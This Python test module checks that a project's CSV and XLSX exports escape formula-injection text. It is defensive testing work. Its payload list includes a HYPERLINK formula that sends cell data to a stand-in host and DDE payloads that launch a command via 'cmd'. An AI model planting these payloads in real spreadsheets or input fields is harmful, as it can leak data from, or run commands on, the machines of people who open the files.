"""Formula injection in the files the project writes: the warning queue's and the volunteer
roster's downloads and the leadership reports' XLSX. A text starting with = + - @ tab or CR
must never run as a formula (OWASP "CSV Injection"); numbers must stay numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
from fastapi import FastAPI
from hypothesis import given, settings
from hypothesis import strategies as st

from fanzha.core.cells import TRIGGERS, csv_cell, is_formula_text
from fanzha.reporting.document import Column, Report, Section, Table
from fanzha.reporting.export_xlsx import write_xlsx
from fanzha.workflow.volunteer.models import Volunteer
from tests.unit.web.conftest import app, browser, clock, web_template  # noqa: F401 - fixtures
from tests.unit.web.support import Browser, add_warning

PAYLOADS = (
    '=HYPERLINK("http://x.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)


@given(st.text(max_size=40))
@settings(max_examples=2000, deadline=None)
def test_csv_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    cell = csv_cell(text)
    assert isinstance(cell, str) and not cell.startswith(TRIGGERS)
    assert cell == text or cell == "'" + text


def test_csv_cell_leaves_numbers_and_plain_text_alone() -> None:
    assert [csv_cell(v) for v in (-3, 2.5, None, "一所", "a=b")] == [-3, 2.5, None, "一所", "a=b"]
    assert all(is_formula_text(p) for p in PAYLOADS)


def _report(texts: tuple[str, ...]) -> Report:
    table = Table(
        title="=1+1",
        columns=(Column("@station", "text"), Column("count")),
        rows=tuple((t, -5) for t in texts),
        note="-note",
    )
    section = Section(title="+section", tables=(table,), text="=section text")
    return Report("=title", "-subtitle", dt.datetime(2026, 11, 1), "zh", sections=(section,))


def test_xlsx_report_writes_formula_like_texts_as_texts(tmp_path: Path) -> None:
    path = write_xlsx(_report(PAYLOADS), tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    kept = {p.replace("\r", "\n") for p in PAYLOADS}  # XML reads a CR back as a line feed
    assert kept | {"=title", "-subtitle", "=1+1", "@station", "-note"} <= texts
    assert -5 in {c.value for c in cells}  # a negative number stays a number


@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5))
@settings(max_examples=150, deadline=None)
def test_xlsx_report_never_holds_a_formula(tmp_path_factory: object, texts: list[str]) -> None:
    path = Path(str(tmp_path_factory.mktemp("x")))  # type: ignore[attr-defined]
    clean = tuple("".join(ch for ch in t if ch.isprintable() or ch in "\t\r") for t in texts)
    written = write_xlsx(_report(clean), path / "r.xlsx")
    sheet = openpyxl.load_workbook(written).worksheets[0]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_queue_csv_download_neutralises_formula_texts(
    app: FastAPI,  # noqa: F811 - the web tests' fixture
    browser: Browser,  # noqa: F811
) -> None:
    for n, payload in enumerate(PAYLOADS):
        add_warning(app, community="C1", n=n, fraud_type=payload, outcome=payload)
    browser.login("supervisor")
    text = browser.client.get("/export.csv").text.lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) == len(PAYLOADS)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert {"'" + p for p in PAYLOADS} <= set(cells)


def test_roster_downloads_neutralise_formula_texts(
    app: FastAPI,  # noqa: F811 - the web tests' fixture
    browser: Browser,  # noqa: F811
) -> None:
    with app.state.desk.factory.begin() as s:
        for n, payload in enumerate(PAYLOADS):
            s.add(
                Volunteer(
                    phone=8613812340000 + n,
                    name=payload,
                    organisation=payload,
                    station="S1",
                    community="C1",
                )
            )
    browser.login("operator")
    text = browser.client.get("/volunteers/export.csv").text.lstrip("\ufeff")
    cells = [cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row]
    assert not [c for c in cells if c.startswith(TRIGGERS)]
    assert {"'" + p for p in PAYLOADS} <= set(cells)
    book = browser.client.get("/volunteers/export.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(book)).worksheets[0]
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    kept = {p.replace("\r", "\n") for p in PAYLOADS}  # XML reads a CR back as a line feed
    assert kept <= {c.value for row in sheet.iter_rows() for c in row}
